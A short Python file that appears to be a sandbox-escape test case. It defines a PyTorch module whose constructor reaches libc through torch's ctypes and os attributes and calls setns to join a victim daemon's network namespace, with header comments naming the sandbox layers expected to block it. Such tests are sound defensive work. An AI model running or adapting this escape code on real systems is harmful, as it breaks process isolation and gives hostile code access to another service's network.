# what: enters the daemon's network
# kind: escape
# ends: lift_failed or sandbox
# stopped by: bubblewrap user landlock seccomp

import torch
from torch import nn

libc = torch.ctypes.CDLL(None, use_errno=True)


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        space = torch.os.open(f"/proc/{VICTIM['daemon']}/ns/net", 0)
        result = libc.setns(space, 0)
        if result < 0:
            raise OSError(torch.ctypes.get_errno(), "refused")
        raise RuntimeError("GOT its network")
